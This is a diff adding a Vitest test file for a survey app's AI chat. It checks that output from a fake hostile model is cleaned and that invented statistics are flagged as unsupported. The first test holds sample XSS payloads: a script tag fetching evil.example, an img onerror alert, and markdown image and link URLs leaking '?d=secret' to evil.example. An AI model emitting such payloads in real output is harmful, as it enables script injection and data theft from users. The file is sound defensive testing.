@@ -1,0 +1,100 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import type { ChatFigure } from '../../../src/domain/chat/chat-figure.ts';
+import { NumberMarker, NumberSupport } from '../../../src/domain/chat/number-support.ts';
+import { type Actor, anonymous, useOrganization } from '../../support/actors.ts';
+import { appOn, useApp } from '../../support/app.ts';
+import { asked } from '../../support/chat.ts';
+import { surveyToTalkAbout } from '../../support/coffee-chat.ts';
+import { startFakeLanguageServer } from '../../support/fake-language-server.ts';
+
+const model = await startFakeLanguageServer();
+const test = useApp({ OPENAI_BASE_URL: model.url, OPENAI_MODEL: 'fake-model' });
+const home = useOrganization(test);
+let surveyId: number;
+
+beforeAll(async () => {
+  ({ surveyId } = await surveyToTalkAbout(test, home.admin));
+});
+afterAll(() => model.close());
+beforeEach(() => model.reset());
+
+const ask = (message: string) => asked(home.admin, { message, survey_id: surveyId });
+const storedAnswer = async (sessionId: string) =>
+  (await home.admin.get(`/api/ai/sessions/${sessionId}`).expect(200)).body.data.messages.at(-1) as {
+    content: string;
+    unsupported_numbers: string[];
+  };
+
+describe('what a hostile model says', () => {
+  it.each([1, 7, 1_000])(
+    'comes without HTML, images and addresses, in chunks of %i',
+    async (charactersPerChunk) => {
+      const content =
+        'Fine <script>fetch("https://evil.example")</script><img src=x onerror=alert(1)> people. ' +
+        '![p](https://evil.example/p.png?d=secret) See [details](https://evil.example/?d=secret) or www.evil.example';
+      model.reply([{ content, charactersPerChunk }]);
+      const { text, done } = await ask('How are they?');
+      expect(text).not.toMatch(/<|evil|\]\(|!\[/);
+      expect(text).toContain('See details or (link removed)');
+      expect((await storedAnswer(done.session_id)).content).toBe(text);
+    },
+  );
+
+  it.each([1, 1_000])('has its invented numbers marked, in chunks of %i', async (charactersPerChunk) => {
+    model.reply([
+      { calls: [{ name: 'get_distribution', arguments: { question_code: 'Sat' } }] },
+      { content: '50 % of the 80 say very good, and 93 % would pay 17.35 more.', charactersPerChunk },
+    ]);
+    const { text, done } = await ask('How satisfied are they?');
+    expect(text).toBe(
+      '50 % of the 80 say very good, and 93 % [unsupported] would pay 17.35 [unsupported] more.',
+    );
+    expect(done.unsupported_numbers).toEqual(['93', '17.35']);
+    expect(await storedAnswer(done.session_id)).toMatchObject({
+      content: text,
+      unsupported_numbers: ['93', '17.35'],
+    });
+  });
+
+  it('has every number marked where nothing was looked up, numbers of the question included', async () => {
+    model.reply([{ content: 'Yes, 64 % of 500 agree.' }]);
+    const { text, done } = await ask('Is it true that 64 % agree?');
+    expect(text).toBe('Yes, 64 % [unsupported] of 500 [unsupported] agree.');
+    expect(done.unsupported_numbers).toEqual(['64', '500']);
+  });
+
+  it('does not get numbers of a respondent past as its own', async () => {
+    model.reply([
+      { calls: [{ name: 'get_verbatims', arguments: { question_code: 'Why', limit: 2 } }] },
+      { content: 'In all 77 % agree.' },
+    ]);
+    const { done } = await ask('What do they say?');
+    expect(done.unsupported_numbers).toEqual(['77']);
+  });
+});
+
+describe('what the built-in chat says', () => {
+  it.each([
+    'How many responses are there?',
+    'What questions are there?',
+    'How did people answer Sat?',
+    'What share is very good?',
+    'What is the mean of Age?',
+    'What is the median of Age?',
+    'What is our NPS?',
+    'Sat by Gender',
+    'Age by Gender',
+    'What do people say in Why?',
+    'Does anybody mention bitter?',
+  ])('has a figure behind every number: %s', async (message) => {
+    const builtIn = anonymous(appOn(test.database));
+    const post: Actor['post'] = (path, body) => builtIn.post(path, body).set('X-API-Key', home.admin.apiKey!);
+    const { text, done } = await asked({ ...builtIn, post }, { message, survey_id: surveyId });
+    expect(done.figures.length).toBeGreaterThan(0);
+    expect(done.unsupported_numbers).toEqual([]);
+    const support = new NumberSupport();
+    for (const figure of done.figures) support.add(figure as unknown as ChatFigure);
+    const marker = new NumberMarker(support);
+    expect(marker.next(text) + marker.end()).toBe(text);
+  });
+});
